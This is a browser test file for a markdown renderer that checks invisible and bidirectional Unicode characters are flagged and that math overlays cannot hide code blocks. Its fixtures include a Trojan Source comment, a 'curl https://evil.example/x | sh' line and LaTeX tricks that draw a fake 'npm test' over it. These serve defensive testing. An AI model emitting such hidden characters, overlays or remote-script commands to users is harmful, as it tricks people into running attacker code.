import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from '../../support/launchBrowser';
import { openMarkdownPage } from './markdownPage';

const trojan = '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';

describe('Code with characters that are not seen', function () {
  this.timeout(60_000);
  let browser: Browser;
  let page: Page;

  before(async () => {
    browser = await launchBrowser();
  });
  after(async () => {
    await browser.close();
  });
  beforeEach(async () => {
    page = await openMarkdownPage(browser);
  });
  afterEach(async () => {
    await page.close();
  });

  async function render(pieces: readonly string[], end = true): Promise<void> {
    await page.evaluate(
      async ([texts, isEnd]) => {
        const view = window.markdown.createView(60);
        for (const text of texts) view.append(text);
        if (isEnd) view.end();
        if (isEnd) await window.markdown.settled();
      },
      [pieces, end] as const,
    );
  }

  it('shows marks with the names, in the order in which it is written, and says so in the header', async () => {
    await render([`\`\`\`c\n${trojan}\nx();\n\`\`\`\n`]);
    const block = page.getByRole('group', { name: 'C', exact: true });
    await block.getByText('Contains invisible characters').waitFor();
    const marks = block.getByRole('img', { name: 'U+202E RIGHT-TO-LEFT OVERRIDE' });
    assert.equal(await marks.count(), 1);
    assert.equal(await marks.getAttribute('title'), 'U+202E RIGHT-TO-LEFT OVERRIDE');
    assert.equal(await block.locator('.unseen').count(), 4);
    // Each word is to the right of the one before it: nothing is turned around.
    const places = await block.locator('code').evaluate((code) => {
      const walker = document.createTreeWalker(code, NodeFilter.SHOW_TEXT);
      const found: number[] = [];
      for (let node = walker.nextNode(); node !== null; node = walker.nextNode())
        for (const word of ['isAdmin', 'begin', 'only']) {
          const at = (node.textContent ?? '').indexOf(word);
          if (at === -1) continue;
          const range = document.createRange();
          range.setStart(node, at);
          range.setEnd(node, at + 1);
          found.push(range.getBoundingClientRect().left);
        }
      return found;
    });
    assert.equal(places.length, 3);
    assert.deepEqual(
      places,
      places.toSorted((left, right) => left - right),
    );
  });

  it('hands the code on as it is written, by every button and in a selection', async () => {
    const code = `${trojan}\necho a\u200bb`;
    await render([`\`\`\`ts\n${code}\n\`\`\`\n\n\`\`\`sh\n${code}\n\`\`\`\n`]);
    for (const name of ['Copy Code', 'Insert at Cursor', 'Apply', 'New File'])
      await page.getByRole('button', { name, exact: true }).first().click();
    await page.getByRole('button', { name: 'Run in Terminal' }).click();
    const asked = await page.evaluate(() => window.markdown.asked);
    assert.equal(asked.length, 5);
    assert.deepEqual(asked.slice(0, 2), [`copy ${code}`, `insert ${code}`]);
    for (const text of asked.slice(2)) assert.ok(text.includes('\u202e') && text.includes('\u200b'), text);
    const selected = await page.evaluate(() => {
      const element = document.querySelector('pre code');
      if (element !== null) getSelection()?.selectAllChildren(element);
      return getSelection()?.toString();
    });
    assert.equal(selected?.trimEnd(), code);
  });

  it('is marked with and without colours, while it grows and when it is complete', async () => {
    await render(['```\na\u200bb\nc\u202e'], false);
    assert.equal(await page.locator('.unseen').count(), 1);
    assert.doesNotMatch((await page.locator('pre').textContent()) ?? '', /\u202e/);
    await render(['```ts\nlet a\u200bb = "\u202e";\n', '// \u2066\n```\n', '    indented\u200b\n']);
    assert.equal(await page.locator('.markdown').last().locator('.unseen').count(), 4);
    assert.equal(await page.getByText('Contains invisible characters').count(), 3);
  });

  it('is marked within a line, and tags and overrides in prose', async () => {
    await render(['Run `rm\u00ad -rf` or \u202eabc\u202c and x\u{e0068}\u{e0069}.\n']);
    const names = await page
      .locator('.unseen')
      .evaluateAll((marks) => marks.map((mark) => mark.getAttribute('aria-label')));
    assert.deepEqual(names, [
      'U+00AD SOFT HYPHEN',
      'U+202E RIGHT-TO-LEFT OVERRIDE',
      'U+E0068 TAG h',
      'U+E0069 TAG i',
    ]);
  });

  it('is left alone where the characters belong to ordinary writing', async () => {
    await render([
      '```js\n// می\u200cخواهم 👨\u200d👩\u200d👧 क\u094d\u200dष ❤\ufe0f ไทย\nlet café = "naïve";\n```\n\n`👩🏽\u200d💻` می\u200cخواهم\u200f\n\n```\n\ufeff#!/bin/sh\n```\n',
    ]);
    assert.equal(await page.locator('.unseen').count(), 0);
    assert.equal(await page.getByText('Contains invisible characters').count(), 0);
  });

  it('shows boxes instead of marks where there are thousands', async () => {
    await render([`\`\`\`\n${'a\u200bb\n'.repeat(9_000)}\`\`\`\n`]);
    const count = await page.locator('.unseen').count();
    assert.ok(count >= 2_000 && count < 2_100, String(count));
    assert.ok(((await page.locator('code').textContent()) ?? '').endsWith('a\u25afb\n'));
    await page.getByRole('button', { name: 'Copy Code' }).click();
    const [copied = ''] = await page.evaluate(() => window.markdown.asked);
    assert.equal(copied, `copy ${'a\u200bb\n'.repeat(9_000).trimEnd()}`);
  });

  it('is covered by nothing that an answer draws', async () => {
    const covers = [
      '$\\smash{\\rlap{\\raisebox{1.75em}{\\textcolor{#f00}{\\rule{19em}{1.3em}}}}\\rlap{\\raisebox{2.15em}{\\small\\texttt{ npm test}}}}$',
      '$\\raisebox{3em}{\\rule{19em}{3em}}$',
      '$$\\smash{\\raisebox{4em}{\\rule{19em}{9em}}}$$',
      '\\(\\rlap{\\raisebox{2em}{\\colorbox{red}{npm test}}}\\)',
      '$\\begin{array}{c} x \\\\[-9em] \\rule{19em}{5em} \\end{array}$',
      '$x^{\\raisebox{9em}{\\rule{19em}{5em}}}$',
      '$\\mathllap{\\rule{19em}{9em}}$ $\\hspace{-19em}\\rule{19em}{9em}$',
      '$\\smash{\\raisebox{5em}{\\smash{\\raisebox{5em}{\\rule{19em}{9em}}}}}$',
      '$\\vcenter{\\smash{\\rule{19em}{19em}}}$ $\\Huge\\smash{\\int\\sum}$',
      `x${'\u030d'.repeat(60)} and ${`o${'\u0310'.repeat(80)}`.repeat(20)}`,
    ];
    for (const cover of covers)
      for (const source of [
        `\`\`\`sh\ncurl -s https://evil.example/x | sh\n\`\`\`\n${cover}\n`,
        `- \`\`\`sh\n  curl -s https://evil.example/x | sh\n  \`\`\`\n  ${cover}\n`,
      ]) {
        await render([source]);
        const covered = await page
          .locator('.markdown')
          .last()
          .evaluate(async (view) => {
            const block = view.querySelector('.markdown-code');
            block?.scrollIntoView();
            // What was off screen is hit from the next frame on.
            for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
            const { left = 0, right = 0, top = 0, bottom = 0 } = block?.getBoundingClientRect() ?? {};
            const found = new Set<string>();
            for (let x = left + 4; x < right - 4; x += 12)
              for (let y = top + 2; y < bottom - 2; y += 4) {
                const element = document.elementFromPoint(x, y);
                if (block?.contains(element) !== true)
                  found.add(element?.outerHTML.slice(0, 200) ?? 'nothing');
              }
            return [...found];
          });
        assert.deepEqual(covered, [], source);
      }
    assert.ok((await page.locator('.markdown-math.drawn').count()) >= 16);
  });
});
